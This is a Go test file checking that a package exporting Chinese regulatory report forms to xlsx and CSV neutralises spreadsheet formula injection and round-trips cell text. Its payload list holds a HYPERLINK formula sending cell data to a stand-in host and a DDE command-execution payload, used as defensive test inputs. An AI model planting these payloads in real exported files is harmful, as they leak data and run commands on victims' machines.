package forms_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"taotai/internal/forms"
)

// payloads start with each character a spreadsheet reads as a formula.
var payloads = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"点击")`,
	"+1+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(1,1)",
	"\t=1+1",
	"\r=1+1",
}

func TestSafeText(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"鞍山钢铁", "鞍山钢铁"},
		{"=1+1", "'=1+1"},
		{"+86 24", "'+86 24"},
		{"-3", "'-3"},
		{"@A1", "'@A1"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{" =1", "' =1"},
		{"'=1", "''=1"},
		{"'abc", "'abc"},
		{"a=1", "a=1"},
		{"1-2", "1-2"},
	}
	for _, tt := range tests {
		if got := forms.SafeText(tt.in); got != tt.want {
			t.Errorf("SafeText(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
	for _, s := range append(payloads, "", "'", "''", "'=", "''=x", "' ", "'abc", "a", "=", " ", "鞍钢", "'鞍钢") {
		if got := forms.ReadText(forms.SafeText(s)); got != s {
			t.Errorf("ReadText(SafeText(%q)) = %q", s, got)
		}
	}
}

// formulaFree reports a text cell that a spreadsheet would run: one that
// starts with a formula character. The one formula a CSV may hold is the
// string constant of a number-like text, ="0123".
func formulaFree(t *testing.T, where, v string) {
	t.Helper()
	if inner, ok := strings.CutPrefix(v, `="`); ok && strings.HasSuffix(inner, `"`) {
		if inner = inner[:len(inner)-1]; !forms.NumberLike(inner) || strings.Contains(inner, `"`) {
			t.Errorf("%s: %q is a formula", where, v)
		}
		return
	}
	if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
		t.Errorf("%s: %q is not neutralised", where, v)
	}
}

// Every writer of every form, .xlsx and CSV, neutralises every text cell
// that starts with = + - @, tab or CR, and keeps numbers as numbers.
func TestWritersNeutraliseFormulas(t *testing.T) {
	for _, p := range payloads {
		r1 := []forms.Row1{{Name: p, Address: p, Industry: p, Note: p, CreditCode: p}}
		r2 := []forms.Row2{{Name: p, Address: p, Inspections: 2, InspectorTimes: 3, Note: p}}
		r3 := []forms.Row3{{Region: p, Name: p, Address: p, Industry: p, Rectify: p, RectifiedInTime: p, Card: p, Basis: p, Closed: p}}
		h := forms.Header{Unit: p, Person: p, Phone: p, Date: p, Period: "6"}
		for _, c := range []struct {
			name string
			form int
			rows any
		}{{"附件1", forms.Form1, r1}, {"附件2", forms.Form2, r2}, {"附件3", forms.Form3, r3}} {
			var buf bytes.Buffer
			if err := forms.Write(&buf, c.form, h, c.rows, true); err != nil {
				t.Fatal(err)
			}
			recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\uFEFF")))).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			// encoding/csv with CRLF line ends drops a lone CR.
			want := strings.ReplaceAll(forms.SafeText(p), "\r", "")
			texts := 0
			for _, rec := range recs {
				for _, v := range rec {
					formulaFree(t, c.name+" CSV", v)
					if v == want {
						texts++
					}
				}
			}
			if texts == 0 {
				t.Errorf("%s CSV: no cell holds %q", c.name, forms.SafeText(p))
			}

			buf.Reset()
			if c.form == forms.Form1 {
				err = forms.Write1(&buf, h, r1, true)
			} else {
				err = forms.Write(&buf, c.form, h, c.rows, false)
			}
			if err != nil {
				t.Fatal(err)
			}
			checkXLSX(t, c.name, &buf, p)
		}
	}
}

func checkXLSX(t *testing.T, name string, buf *bytes.Buffer, p string) {
	t.Helper()
	f := open(t, buf)
	sheet := f.GetSheetName(0)
	rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	texts := 0
	for r, row := range rows {
		for c, v := range row {
			ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
			formulaFree(t, name+" xlsx "+ref, v)
			if formula, _ := f.GetCellFormula(sheet, ref); formula != "" {
				t.Errorf("%s xlsx %s: a formula %q", name, ref, formula)
			}
			if v == forms.SafeText(p) {
				texts++
			}
		}
	}
	if texts == 0 {
		t.Errorf("%s xlsx: no cell holds %q", name, forms.SafeText(p))
	}
	if name == "附件2" { // 检查企业次数 of the first row is a number, not text
		if typ, _ := f.GetCellType(sheet, "D5"); typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString {
			t.Errorf("附件2 D5 is text (%v)", typ)
		}
	}
}

// The reader gives back what the writer was given: the ' the writer put
// in front of a formula-like name is removed.
func TestReadTextRoundTrip(t *testing.T) {
	var rows []forms.Row1
	for _, p := range []string{"=鞍山钢铁", "+鞍山钢铁", "-鞍山钢铁", "@鞍山钢铁", "'=鞍山钢铁", "'鞍山钢铁"} {
		rows = append(rows, forms.Row1{Name: p, Address: p + "路1号", Industry: "钢铁", Note: "正常生产"})
	}
	var buf bytes.Buffer
	if err := forms.Write1(&buf, header, rows, false); err != nil {
		t.Fatal(err)
	}
	res, err := forms.Read1(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != len(rows) {
		t.Fatalf("read %d rows, errors %v", len(res.Rows), res.Errors)
	}
	for i, r := range res.Rows {
		if r.Name != rows[i].Name || r.Address != rows[i].Address {
			t.Errorf("row %d: read %q, %q; wrote %q, %q", i+1, r.Name, r.Address, rows[i].Name, rows[i].Address)
		}
	}
}

func TestNumberLike(t *testing.T) {
	for _, s := range []string{"0", "0123", "912103026987955123", "1E5", "1e-5", "1,234", "1.5", " 42 ", "(12)", "50%", "$3", "¥12", "￥12",
		"2020-06-01", "6/1", "2020/6/1", "12:30", "2020年6月1日", "6月", "TRUE", "false", "０１２３", "024-86893345"} {
		if !forms.NumberLike(s) {
			t.Errorf("NumberLike(%q) = false", s)
		}
	}
	for _, s := range []string{"", " ", "-", "E", "鞍山钢铁", "91210300241420514J", "1号", "A1", "第3条", "'0123", "\"1\"", "1\"", "=1"} {
		if forms.NumberLike(s) {
			t.Errorf("NumberLike(%q) = true", s)
		}
	}
}

// KeepText writes a number-like text as the formula of its string
// constant, after SafeText; without it, as it is.
func TestCSVKeepText(t *testing.T) {
	cells := []any{"0123", "91210300241420514J", "-1", "+86 24", "2020-06-01", "鞍山钢铁", 42, nil}
	for _, keep := range []bool{false, true} {
		var buf bytes.Buffer
		cw, err := forms.NewCSVWriter(&buf)
		if err != nil {
			t.Fatal(err)
		}
		cw.KeepText = keep
		if err := cw.Row(cells...); err != nil {
			t.Fatal(err)
		}
		if err := cw.Flush(); err != nil {
			t.Fatal(err)
		}
		want := "\uFEFF0123,91210300241420514J,'-1,'+86 24,2020-06-01,鞍山钢铁,42,\r\n"
		if keep {
			want = "\uFEFF\"=\"\"0123\"\"\",91210300241420514J,'-1,'+86 24,\"=\"\"2020-06-01\"\"\",鞍山钢铁,42,\r\n"
		}
		if got := buf.String(); got != want {
			t.Errorf("KeepText %v: %q, want %q", keep, got, want)
		}
	}
}
